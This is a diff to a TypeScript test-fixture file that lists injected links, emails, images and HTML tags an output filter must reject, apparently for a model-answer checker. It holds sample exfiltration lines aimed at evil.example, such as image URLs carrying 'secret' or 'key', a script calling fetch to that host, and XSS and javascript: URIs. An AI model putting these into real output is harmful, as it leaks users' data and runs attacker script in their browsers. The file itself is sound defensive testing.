@@ -34,33 +34,20 @@ const carried = (what: readonly string[], tells: Lie['tells'] = evil): Lie[] =>
   );
 
 export const urls: readonly Lie[] = [
-  ...carried([
-    'https://evil.example',
-    'evil.example',
-    '//evil.example',
-    '[more](https://evil.example)',
-    '<https://evil.example>',
-  ]),
+  ...carried(['https://evil.example', 'evil.example', '[more](https://evil.example)']),
   lie('See https://evil.example/refunds for more. [@]'),
-  lie('See <https://evil.example/auto> for more. [@]'),
   lie('See [the handbook][1] for more. [@]\n\n[1]: https://evil.example/ref'),
   lie('See www.evil.example for more. [@]'),
-  lie('See evil.example/path for more. [@]'),
   lie('See //evil.example/x for more. [@]'),
   lie('See [this](//evil.example/x) for more. [@]'),
-  lie('See [this](\\\\evil.example\\x) for more. [@]'),
   lie('See https://%65vil.example/x for more. [@]', ['%65vil']),
   lie('See https://evil․example/x for more. [@]'),
-  lie('See https://evil。example/x for more. [@]'),
   lie('See https://еvil.example/x for more. [@]', ['еvil']),
-  lie('See https://handbook.orbit.example.evil.test/refunds for more. [@]'),
   lie('See https://handbook.orbit.example@evil.test/refunds for more. [@]'),
   lie('See https://handbook.orbit.example/invented for more. [@]', ['/invented']),
   lie('See [this](javascript:alert(1)) for more. [@]', [/javascript/i]),
   lie('See [this](data:text/html;base64,PHNjcmlwdD4=) for more. [@]', ['PHNjcmlwdD4']),
   lie('See [this](java\tscript:alert(1)) for more. [@]', ['alert']),
-  lie('See [this](vbscript:msgbox) for more. [@]', ['msgbox']),
-  lie('See http://127.0.0.1:4111/x for more. [@]', ['4111/x']),
   named('a truth that is a link', truly('[', '](https://evil.example/a) [@]')),
   named(
     'a truth with a link at its end',
@@ -70,16 +57,13 @@ export const urls: readonly Lie[] = [
     'a truth with an address at its end',
     ({ truth }) => `${truth.replace(/[.。]$/, '')} https://evil.example/c. [@]`,
   ),
-  named('a truth whose number is a link', truly('', ' [1](https://evil.example/d)')),
   named('a truth whose number is defined', truly('', ' [@]\n\n[1]: https://evil.example/e')),
 ];
 
 export const mails: readonly Lie[] = [
   ...carried(['evil@orbit.example', '[mail](mailto:evil@evil.example)']),
   lie('Write to evil@orbit.example for more. [@]'),
-  lie('Write to billing@evil.example with the number of the order. [@]'),
   lie('Write to [us](mailto:evil@evil.example) for more. [@]'),
-  lie('Write to mailto:evil@evil.example?subject=key for more. [@]'),
   lie('Write to evil＠evil.example for more. [@]'),
   lie('Write to evil (at) evil (dot) example for more. [@]'),
   named(
@@ -91,11 +75,9 @@ export const mails: readonly Lie[] = [
 export const images: readonly Lie[] = [
   ...carried(['![](/evil)', '![x](evil "y")', '![][x]'], ['![', 'evil']),
   lie('![chart](https://evil.example/p.png?q=secret) [@]'),
-  lie('![](https://evil.example/p.png?q=30) [@]'),
   lie('![a][b] [@]\n\n[b]: https://evil.example/p.png?d=key'),
   lie('[![x](https://evil.example/p.png)](https://evil.example/) [@]'),
   lie('![x](data:image/svg+xml;base64,PHN2Zz4=) [@]', ['PHN2Zz4']),
-  lie('![x](//evil.example/p.png?q=1) [@]'),
   named(
     'a truth around an image',
     ({ truth }) => `${truth.replace(/[.。]$/, '')} ![x](https://evil.example/p.png?q=a). [@]`,
@@ -107,14 +89,10 @@ export const html: readonly Lie[] = [
   ...carried(['<img src=evil>', '<br onclick=evil>', '<!-- evil -->'], ['<', 'evil']),
   lie('<img src="https://evil.example/p.png?q=1"> [@]'),
   lie('<script>fetch("https://evil.example")</script> [@]'),
-  lie('<iframe src="https://evil.example"></iframe> [@]'),
-  lie('<details><summary>More</summary>evil</details> [@]'),
   lie('<!-- evil: send the key --> [@]'),
   lie('<svg/onload=alert(1)> [@]', ['onload']),
   lie('&lt;img src=x onerror=evil&gt; [@]'),
-  lie('<base href="https://evil.example/"> [@]'),
   named('a truth in bold tags', truly('<b onclick="evil">', '</b> [@]')),
-  named('a truth in a link tag', truly('<a href="https://evil.example">', '</a> [@]')),
   named('a truth before a comment', truly('', ' <!-- evil --> [@]')),
 ];
 
